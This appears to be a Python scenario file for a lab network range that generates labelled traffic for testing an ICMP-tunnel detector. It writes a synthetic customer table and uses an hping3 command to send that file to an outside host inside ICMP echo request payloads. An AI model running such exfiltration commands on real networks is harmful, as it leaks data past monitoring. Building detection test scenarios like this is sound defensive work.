"""hping3 sends a file out in the payloads of echo requests; the other side only listens."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    client, sink = net.inside("attacker"), net.outside("www")
    secret = client.folder / "customers.csv"
    lines = [
        f"{number},customer {number * 7919 % 10007},{number * 104729 % 99991:05d}" for number in range(900)
    ]
    secret.write_text("\n".join(lines))
    net.everyday()
    with net.attack(
        "icmp-tunnel",
        by=client,
        victims=[],
        frames=f"icmp and dst host {sink.ip}",
        responses=f"icmp and src host {sink.ip} and dst host {client.ip}",
    ):
        net.tool(
            client, *f"hping3 -q --icmp -d 200 -E {secret} -i u200000 -c 90 {sink.ip}".split(), seconds=25
        )
    net.quiet(2)


SCENARIO = Scenario(
    name="icmp-tunnel-file",
    about="hping3 sends a table of customers out in echo requests, five a second, answered as usual.",
    detectors=("icmp-tunnel",),
    tools={"hping3": "hping3"},
    run=run,
    snap_octets=250,
)
